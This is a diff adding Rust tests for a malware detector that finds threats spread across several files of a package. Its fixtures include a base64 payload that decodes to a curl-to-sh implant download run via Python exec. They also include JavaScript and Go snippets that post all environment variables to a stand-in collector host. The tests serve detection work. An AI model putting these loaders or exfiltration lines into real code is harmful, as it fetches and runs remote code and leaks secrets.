@@ -2,7 +2,7 @@
 
 use assay_manifests::Language;
 
-use super::{COMPILED, Malice, MaliceConfig, WHOLE};
+use super::{COMPILED, FileView, Lines, Malice, MaliceConfig, UnitView, Validator, WHOLE};
 use crate::judges::testing::{judge, rules};
 
 fn found(path: &str, text: &str) -> Vec<String> {
@@ -89,4 +89,57 @@ fn ordinary_code_has_reasons() {
     ] {
         assert_eq!(found(path, &text), [""; 0], "{path}:\n{text}");
     }
+}
+
+/// Findings of one file among others of its package.
+fn in_package(files: &[(&str, Language, &str)], path: &str) -> Vec<String> {
+    let (_, language, text) = files.iter().find(|(known, ..)| *known == path).expect("a file");
+    let parsed = crate::parse::parse(*language, text);
+    let artifact = crate::panel::ArtifactView { sources: files, ..Default::default() };
+    let view = FileView { path, language: *language, text, parsed: parsed.as_ref(), module: None, artifact: &artifact };
+    let unit = UnitView { unit: assay_manifests::Unit::File, name: path, span: Lines::of(text).span(0, text.len()), content: text };
+    let verdict = Malice::new(MaliceConfig::default()).judge(&view, &[unit]).remove(0);
+    verdict.findings.into_iter().map(|finding| finding.rule).collect()
+}
+
+#[test]
+fn a_threat_in_several_files_of_a_package_is_found() {
+    let blob = "Y3VybCAtcyBodHRwOi8vMTAuMC4wLjEvaW1wbGFudCB8IHNoOyBybSAtcmYgL3RtcC9pbXBsYW50".repeat(2);
+    let payload = format!("DATA = '{blob}'\n");
+    let python = [
+        ("pkg/__init__.py", Language::Python, "import base64\nfrom . import assets\n\nexec(base64.b64decode(assets.DATA))\n"),
+        ("pkg/assets.py", Language::Python, payload.as_str()),
+    ];
+    assert_eq!(in_package(&python, "pkg/__init__.py"), ["malice/encoded-payload"]);
+    let javascript = [
+        (
+            "collect.js",
+            Language::JavaScript,
+            "function gather() {\n  return JSON.stringify(process.env);\n}\nmodule.exports = { gather };\n",
+        ),
+        (
+            "index.js",
+            Language::JavaScript,
+            "const { gather } = require('./collect');\nfetch('https://collector.example/in', { method: 'POST', body: gather() });\n",
+        ),
+    ];
+    assert_eq!(in_package(&javascript, "index.js"), ["malice/exfiltration"]);
+    let go = [
+        ("a/env.go", Language::Go, "package a\n\nimport \"os\"\n\nfunc all() []string {\n\treturn os.Environ()\n}\n"),
+        (
+            "a/send.go",
+            Language::Go,
+            "package a\n\nimport (\n\t\"net/http\"\n\t\"strings\"\n)\n\nfunc send() {\n\thttp.Post(\"https://collector.example\", \"text/plain\", strings.NewReader(strings.Join(all(), \" \")))\n}\n",
+        ),
+    ];
+    assert_eq!(in_package(&go, "a/send.go"), ["malice/exfiltration"]);
+}
+
+#[test]
+fn files_that_do_not_import_each_other_lend_nothing() {
+    let files = [
+        ("one/env.py", Language::Python, "import os\n\ndef everything():\n    return dict(os.environ)\n"),
+        ("two/report.py", Language::Python, "import requests\n\nrequests.post('https://stats.example', json=everything())\n"),
+    ];
+    assert!(in_package(&files, "two/report.py").is_empty());
 }
